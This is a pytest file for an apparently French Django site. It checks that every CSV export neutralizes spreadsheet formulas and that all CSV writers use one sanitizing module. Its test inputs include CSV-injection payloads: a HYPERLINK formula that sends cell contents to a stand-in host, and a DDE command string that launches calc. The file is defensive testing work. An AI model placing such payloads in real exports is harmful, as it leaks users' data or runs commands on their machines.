"""No CSV the site writes carries a live formula (OWASP "CSV injection"), and every CSV
writer of the site goes through core/csvsafe.py."""

import csv
import io
import re
from pathlib import Path

import polars as pl
import pytest
from django.urls import reverse

from observatoire.core.csvsafe import neutralize, neutralize_frame
from observatoire.questionnaires.choices import ResponseStatus
from observatoire.questionnaires.factories import ResponseFactory, small_questionnaire
from observatoire.registre.choices import Status
from observatoire.registre.factories import full_entry

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Cliquez")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3.5", "-3.5"),
        ("+12", "+12"),
        ("-1,5e3", "-1,5e3"),
        ("Plaisir", "Plaisir"),
        ("a=b", "a=b"),
        (-3, -3),
        (None, None),
    ],
)
def test_formula_cells_get_an_apostrophe_numbers_stay(cell, written):
    """Text starting with = + - @ tab or CR is prefixed; numbers and other text are not."""
    assert neutralize(cell) == written


def read(content: str, delimiter: str = ",") -> list[dict]:
    return list(csv.DictReader(io.StringIO(content), delimiter=delimiter))


@pytest.mark.django_db
def test_public_register_csv_and_eurocities_exports_are_neutralized(client, authority_a):
    """A référent's texts beginning with a formula character come out as text in the
    public CSV and the Eurocities export (whole register and one entry)."""
    entry = full_entry(
        authority_a, name=FORMULA, summary="@SUM(1+1)", service="-cmd", status=Status.PUBLISHED
    )
    for url, delimiter, column in [
        (reverse("registre:export", args=["csv"]), ",", "name"),
        (reverse("registre:export", args=["eurocities"]), ";", "name"),
        (reverse("registre:entry_export", args=[entry.pk, "csv"]), ",", "name"),
    ]:
        rows = read(client.get(url).content.decode("utf-8-sig"), delimiter)
        assert rows[0][column] == "'" + FORMULA, url
        cells = [value for row in rows for value in row.values() if value]
        assert not [c for c in cells if c[0] in "=+-@\t\r" and not re.fullmatch(r"-?[\d.]+", c)]


@pytest.mark.django_db
def test_analyst_responses_csv_is_neutralized(client_for, authority_a):
    """A text answer beginning with `=` is exported as text in the analyst's CSV."""
    questionnaire = small_questionnaire()
    ResponseFactory(
        questionnaire=questionnaire,
        authority=authority_a,
        status=ResponseStatus.SUBMITTED,
        answers={"commentaire": FORMULA},
    )
    url = reverse("questionnaires:export_responses", args=[questionnaire.code])
    rows = read(client_for("analyst").get(url).content.decode())
    assert rows[0]["commentaire"] == "'" + FORMULA


def test_open_data_frames_keep_numbers_and_neutralize_text():
    """Microdata text columns are neutralized before write_csv; numbers are untouched."""
    frame = pl.DataFrame({"texte": [FORMULA, "-4", None], "valeur": [-1.5, 2.0, None]})
    rows = read(neutralize_frame(frame).write_csv())
    assert [r["texte"] for r in rows] == ["'" + FORMULA, "-4", ""]
    assert [r["valeur"] for r in rows] == ["-1.5", "2.0", ""]


def test_every_csv_writer_goes_through_csvsafe():
    """No module writes CSV with the standard library or polars directly, so the rule
    stays in one place. `stats` is a library run on the user's own files (no site data)."""
    root = Path(__file__).resolve().parents[2]
    direct = re.compile(r"csv\.(writer|DictWriter)\(|\.write_csv\(")
    offenders = [
        str(path.relative_to(root))
        for path in root.glob("observatoire/**/*.py")
        if "tests" not in path.parts
        and path.name != "csvsafe.py"
        and "stats" not in path.parts
        and direct.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
